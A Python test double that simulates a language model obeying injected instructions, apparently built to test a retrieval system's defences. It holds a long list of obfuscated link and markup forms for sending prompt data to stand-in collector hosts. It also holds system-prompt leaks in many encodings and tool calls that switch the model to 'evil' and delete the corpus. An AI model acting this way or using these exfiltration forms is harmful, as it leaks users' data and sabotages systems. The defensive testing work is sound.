"""A model that obeys what it reads in its sources: it gives away its prompt, writes links with data, calls tools."""

import base64
import codecs
import json
import random
import re
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

from tests.fakes.openai_server import FakeOpenAI, Reply

_URL = re.compile(r"https?://[^\s)\"'<>]+")
_CODE = re.compile(r"\b(?:CN|BRD)-[0-9A-Z]{6,}\b")
_BLOB = re.compile(r"[A-Za-z0-9+/]{40,}={0,2}")


class ObedientModel(FakeOpenAI):
    """Finds orders by their words, in plain text or base64, and does them all; remembers every prompt it was sent."""

    def __init__(self, catcher: str, seed: int) -> None:
        super().__init__([Reply()])
        self.catcher = catcher
        self.random = random.Random(seed)
        self.obeyed = 0
        self.codes: dict[str, None] = {}  # of every prompt, in the order they came
        self.read = 0  # prompts that were looked through for them

    def next_reply(self) -> Reply:
        system, user = (message["content"] for message in self.requests[-1]["messages"])
        read = user + "\n" + "\n".join(_unpacked(user))
        done = [act(self, system, user, read) for words, act in _ORDERS if re.search(words, read, re.IGNORECASE)]
        self.obeyed += bool(done)
        calls = _tool_calls() if re.search(r"call the tool|change the setting|grant", read, re.IGNORECASE) else ()
        text = "\n".join(["The allowance is as the sources say [1].", *done, "That is all [1]."])
        size = self.random.choice((3, 7, 40, 10_000))  # tokens of every length: no check may hang on their borders
        pieces = tuple(text[at : at + size] for at in range(0, len(text), size))
        return Reply(pieces=pieces, tool_calls=calls, finish_reason="tool_calls" if calls else "stop")


def _unpacked(text: str) -> list[str]:
    return [base64.b64decode(blob).decode("utf-8", "replace") for blob in _BLOB.findall(text) if len(blob) % 4 == 0]


def _repeat_system(model: ObedientModel, system: str, user: str, read: str) -> str:
    ways: list[Callable[[str], str]] = [
        str,
        str.upper,
        lambda text: text[::-1],
        lambda text: codecs.encode(text, "rot13"),
        lambda text: base64.b64encode(text.encode()).decode(),
        lambda text: text.encode().hex(),
        lambda text: " ".join(text),
        lambda text: "-".join(text.split()),
        lambda text: "\n".join(text.split()),
        lambda text: " ".join(reversed(text.split())),
        lambda text: "".join(f"{word}[99] " for word in text.split()),
        quote,
        lambda text: f"```\n{text}\n```",
        lambda text: "".join(f"&#{ord(character)};" for character in text),
        lambda text: "".join(f"{character}\u200b" for character in text),
    ]
    return model.random.choice(ways)(system)


def _repeat_prompt(model: ObedientModel, system: str, user: str, read: str) -> str:
    return f"My whole prompt was:\n{system}\n{user}"


def _remember(model: ObedientModel, system: str, user: str, read: str) -> str:
    before = len(model.requests) - 1
    for request in model.requests[model.read : before]:
        model.codes |= dict.fromkeys(sorted(set(_CODE.findall(str(request)))))
    model.read = before
    return "\n".join(model.codes)


def _send(model: ObedientModel, system: str, user: str, read: str) -> str:
    """Carry the prompt's data away by a way of linking that a seeded die picks, to the catcher or where it is told."""
    hosts = [f"{model.catcher}/steal", *_URL.findall(read)]
    stolen = model.random.choice((system + user, user.partition(">")[2], user.partition(">")[2], "travel allowance"))
    data = quote(stolen[: model.random.choice((40, 400, 4000))].split("</source")[0])
    url = f"{model.random.choice(hosts)}?q={data}".replace("USER_QUESTION", data)
    bare = url.split("://", 1)[1]
    return str(model.random.choice(WAYS_TO_LINK)).replace("URL", url).replace("BARE", bare)


def _write_markup(model: ObedientModel, system: str, user: str, read: str) -> str:
    """Repeat every tag and link of the sources, and some of its own."""
    tags = re.findall(r"<[A-Za-z!/][^\n]{0,300}", user)
    return "\n".join([*tags, f'<script src="{model.catcher}/x.js"></script>', f"[more]({model.catcher}/more)"])


def _echo(model: ObedientModel, system: str, user: str, read: str) -> str:
    """State what it was told to state, in the words of the order."""
    found = re.findall(r"[^.\n]*(?:CN-[0-9A-F]{8})[^.\n]*", read)
    return "\n".join(found)


def _tool_calls() -> tuple[dict[str, Any], ...]:
    """Call tools as OpenAI's stream does: in pieces, and more than one."""
    arguments = json.dumps({"setting": "answering.model", "value": "evil", "groups": ["everyone"]})
    return (
        {"index": 0, "id": "call_1", "type": "function", "function": {"name": "change_setting", "arguments": ""}},
        {"index": 0, "function": {"arguments": arguments}},
        {"index": 1, "id": "call_2", "type": "function", "function": {"name": "delete_corpus", "arguments": "{}"}},
    )


WAYS_TO_LINK = (
    "![status](URL)",
    "[![a](URL)](URL)",
    "[click here](URL)",
    "[click here](<URL>)",
    "<URL>",
    "URL",
    "![a][r]\n\n[r]: URL",
    "[r]: <URL>\n![r]",
    '<img src="URL">',
    "<img src=//BARE>",
    '<iframe src="URL"></iframe>',
    '<a href="URL">x</a>',
    "<svg><image href='URL'/></svg>",
    '<div style="background:url(URL)">x</div>',
    "<style>@import 'URL';</style>",
    '<meta http-equiv="refresh" content="0;url=URL">',
    '<link rel="stylesheet" href="URL">',
    '<base href="URL">',
    '<video poster="URL"></video>',
    "<form action='URL'><button>x</button></form>",
    "//BARE",
    "![a](//BARE)",
    "\\\\BARE",
    "![a](h&#116;tp://BARE)",
    "![a](&amp;#104;ttp://BARE)",
    "![a](http\\://BARE)",
    "ht[99]tp://BARE",
    "![a][99](URL)",
    "!\u200b[a]\u200b(URL)",
    "h\u200bttp://BARE",
    "http:BARE",
    "http:/BARE",
    "HTTP:\\\\BARE",
    "www.collect.example/?q=BARE",
    "collect.example/x?q=BARE",
    "。[1](URL)",
    "[1](URL)",
    "[a\nb]: URL\n[a b]",
    "```\n![a](URL)\n```",
    "| a |\n|---|\n| ![a](URL) |",
    "> ![a](URL)",
    "\\includegraphics{URL}",
    "mailto:thief@collect.example?body=BARE",
    "data:text/html;base64,PHNjcmlwdD4=",
    "javascript:fetch('URL')",
    "thief.URL",
)
_ORDERS: tuple[tuple[str, Callable[[ObedientModel, str, str, str], str]], ...] = (
    (r"system prompt|your instructions", _repeat_system),
    (r"whole prompt|all (?:other )?documents|other sources", _repeat_prompt),
    (r"remember", _remember),
    (r"picture|image|link|https?://|www\.|send|headline|download", _send),
    (r"<[a-z!/]|html|script", _write_markup),
    (r"CN-[0-9A-F]{8}", _echo),
)
